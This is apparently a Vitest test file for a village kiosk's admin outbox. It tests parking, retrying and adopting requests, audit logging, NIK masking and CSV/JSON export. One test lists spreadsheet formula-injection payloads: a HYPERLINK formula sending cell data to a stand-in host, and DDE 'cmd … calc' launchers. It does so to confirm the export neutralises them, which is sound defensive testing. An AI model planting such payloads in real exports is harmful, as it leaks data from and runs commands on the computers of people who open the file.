import { afterEach, describe, expect, it, vi } from 'vitest';
import type { AdminOutboxRow } from '../../../src/shared/admin-contract';
import { neutraliseFormula } from '../../../src/main/export/spreadsheet-cell';
import { serverTarget } from '../../../src/main/village/server-target';
import { coreWithSim } from '../../helpers/core-with-sim';
import { newRequest, pinOf } from '../../helpers/outbox-rig';
import { useTempDirs } from '../../helpers/temp-dir';
import { openAdminSession } from '../../helpers/admin-session';

const tempDir = useTempDirs();
let close: () => Promise<void> = async () => {};
afterEach(async () => close());

async function adminKiosk() {
  const rig = await coreWithSim(tempDir());
  close = rig.close;
  const { admin } = await openAdminSession(rig.core);
  const request = (made = rig.core.outbox.enqueue(newRequest({ serverTarget: serverTarget(rig.sim.url) }), pinOf())) => made;
  return { ...rig, admin, request };
}

const rowsOf = (result: unknown) => (result as { ok: true; value: { rows: AdminOutboxRow[] } }).value.rows;

describe('admin outbox', () => {
  it('holds a waiting request, lists it as held, and releases it to be delivered; audited', async () => {
    const { core, admin, request, sim } = await adminKiosk();
    const { reference } = request();
    expect(await admin('admin.outboxAction', { reference, action: 'park' })).toMatchObject({ ok: true, value: { row: { state: 'parked', canRetry: true } } });
    expect((await core.sync.runOnce()).synced).toBe(0);
    const held = rowsOf(await admin('admin.outbox', { state: 'parked' }));
    expect(held).toEqual([expect.objectContaining({ reference, state: 'parked', resident: '320101******0001', lastError: 'ditahan petugas' })]);
    expect(Object.keys(held[0]!)).not.toContain('pin');

    expect(await admin('admin.outboxAction', { reference, action: 'retry' })).toMatchObject({ ok: true, value: { row: { state: 'pending' } } });
    expect((await core.sync.runOnce()).synced).toBe(1);
    expect(rowsOf(await admin('admin.outbox', { state: 'synced' }))[0]).toMatchObject({ reference, state: 'synced', serverId: expect.any(Number) });
    expect(sim.requests()).toHaveLength(1);
    const actions = core.db.prepare("SELECT action, detail FROM audit_log WHERE action LIKE 'outbox.%'").all();
    expect(actions).toEqual([
      { action: 'outbox.park', detail: JSON.stringify({ reference }) },
      { action: 'outbox.retry', detail: JSON.stringify({ reference }) },
    ]);
  });

  it('offers no retry for a request the server refused once its PIN is gone, says the resident must request again, and words the refusal', async () => {
    const { core, admin, sim } = await adminKiosk();
    const { reference } = core.outbox.enqueue(newRequest({ answers: {}, serverTarget: serverTarget(sim.url) }), pinOf());
    expect((await core.sync.runOnce()).parked).toBe(1);
    const [row] = rowsOf(await admin('admin.outbox', { state: 'parked' }));
    expect(row).toMatchObject({
      reference,
      status: { at: 'kiosk', state: 'refused' },
      problem: { code: 'refused', detail: expect.any(String) },
      retry: 'request-again',
      canRetry: false,
    });
    expect(await admin('admin.outboxAction', { reference, action: 'retry' })).toEqual({ ok: false, error: { code: 'not-allowed' } });
    expect(core.outbox.byReference(reference)).toMatchObject({ syncState: 'parked' });
    expect(core.db.prepare("SELECT count(*) AS n FROM audit_log WHERE action = 'outbox.retry'").get()).toEqual({ n: 0 });
  });

  it('tells a server that cannot be reached apart from the raw code, and shows a cancelled request as cancelled', async () => {
    const { core, admin, request, sim } = await adminKiosk();
    const waiting = request();
    await sim.setDown(true);
    await core.sync.runOnce();
    const [row] = rowsOf(await admin('admin.outbox', { state: 'pending' }));
    expect(row).toMatchObject({
      reference: waiting.reference,
      status: { at: 'kiosk', state: 'pending' },
      problem: { code: 'unreachable', detail: expect.stringContaining('ECONNREFUSED') },
      retry: 'allowed',
      canRetry: true,
    });
    await sim.setDown(false);
    expect(await admin('admin.outboxAction', { reference: waiting.reference, action: 'retry' })).toMatchObject({ ok: true });
    expect((await core.sync.runOnce()).synced).toBe(1);
    core.outbox.recordServerStatus(waiting.id, 5);
    expect(rowsOf(await admin('admin.outbox', { state: 'synced' }))[0]).toMatchObject({ status: { at: 'office', code: 5 }, problem: null, retry: 'sent', canRetry: false });
  });

  it('a request held while a pass already had it is not sent by that pass, and keeps the hold\'s note', async () => {
    const { core, admin, request } = await adminKiosk();
    const made = request();
    await admin('admin.outboxAction', { reference: made.reference, action: 'park' });
    // What the pass does next, for the copy of the row it read before the hold:
    expect(core.outbox.markAttemptStarted(made.id, new Date(Date.now() + 60_000), 0)).toBe(false);
    core.outbox.reschedule(made.id, new Date(), 'list: Server Error');
    expect(core.outbox.get(made.id)).toMatchObject({ syncState: 'parked', attempts: 0, attemptMark: null, lastError: 'ditahan petugas' });
  });

  it('refuses to hold a request whose sending is in doubt, and to adopt a row that is not a candidate', async () => {
    const { core, admin, request } = await adminKiosk();
    const made = request();
    core.outbox.markAttemptStarted(made.id, new Date(Date.now() + 60_000), 0);
    expect(rowsOf(await admin('admin.outbox', { state: 'pending' }))[0]).toMatchObject({ canPark: false });
    expect(await admin('admin.outboxAction', { reference: made.reference, action: 'park' })).toEqual({ ok: false, error: { code: 'not-allowed' } });
    core.outbox.park(made.id, 'ambigu', { keepSecret: true, candidates: [41, 42] });
    expect(rowsOf(await admin('admin.outbox', { state: 'parked' }))[0]).toMatchObject({ candidates: [41, 42] });
    expect(await admin('admin.adopt', { reference: made.reference, serverId: 7 })).toEqual({ ok: false, error: { code: 'not-allowed' } });
    expect(await admin('admin.adopt', { reference: made.reference, serverId: 42 })).toMatchObject({ ok: true, value: { row: { state: 'synced', serverId: 42, candidates: [] } } });
  });

  it('exports the list as CSV and JSON with the NIK masked and never a PIN', async () => {
    const { admin, request } = await adminKiosk();
    const { reference } = request();
    const csv = await admin('admin.outboxExport', { state: 'all', format: 'csv' });
    expect(csv).toMatchObject({ ok: true, value: { mimeType: 'text/csv', fileName: expect.stringMatching(/^adm-permohonan-\d{4}-\d{2}-\d{2}\.csv$/) } });
    const text = (csv as { value: { text: string } }).value.text;
    const [header, line] = text.trim().split('\n');
    expect(header).toBe('"reference","createdAt","letterName","resident","state","serverId","serverStatus","attempts","lastError"');
    expect(line).toContain(`"${reference}",`);
    expect(line).toContain('320101******0001');
    expect(text).not.toContain('3201011501850001');
    const json = await admin('admin.outboxExport', { state: 'pending', format: 'json' });
    expect(JSON.parse((json as { value: { text: string } }).value.text)).toEqual([expect.objectContaining({ reference, resident: '320101******0001' })]);
  });

  // Letter names come from the village server; the office opens the CSV in a spreadsheet.
  it.each([
    ['=HYPERLINK("http://contoh.test/?d="&A2,"Klik")'],
    ['+SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(1+1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['  =1+1'],
    ['\u00a0=1+1'],
    ['\uFF1D1+1'],
    ['\uFF0BSUM(1)'],
    ['\uFF0D1'],
    ['\uFF20SUM(1)'],
  ])('exports a server-given letter name that starts like a formula as quoted text: %j', async (letterName) => {
    const { admin, core, sim } = await adminKiosk();
    const { reference } = core.outbox.enqueue(newRequest({ serverTarget: serverTarget(sim.url), letterName }), pinOf());
    const csv = await admin('admin.outboxExport', { state: 'all', format: 'csv' });
    const text = (csv as { value: { text: string } }).value.text;
    // In quotes, quotes doubled, behind a single quote: a spreadsheet shows it as text.
    expect(text).toContain(`"${reference}",`);
    expect(neutraliseFormula(letterName)).toMatch(/^'/);
    expect(text).toContain(`,"${neutraliseFormula(letterName).replaceAll('"', '""')}",`);
    // The JSON export keeps the name as the server gave it.
    const json = await admin('admin.outboxExport', { state: 'all', format: 'json' });
    expect(JSON.parse((json as { value: { text: string } }).value.text)).toEqual([expect.objectContaining({ reference, letterName })]);
  });

  it('pauses sending while admin is open, and closing admin resumes it', async () => {
    const { core, admin } = await adminKiosk();
    expect(await admin('admin.syncPause', { paused: true })).toEqual({ ok: true, value: { paused: true } });
    expect(rowsOf(await admin('admin.outbox', { state: 'all' }))).toEqual([]);
    expect(core.sync.paused()).toBe(true);
    await admin('admin.lock');
    await vi.waitFor(() => expect(core.sync.paused()).toBe(false), { timeout: 3000 });
  });
});
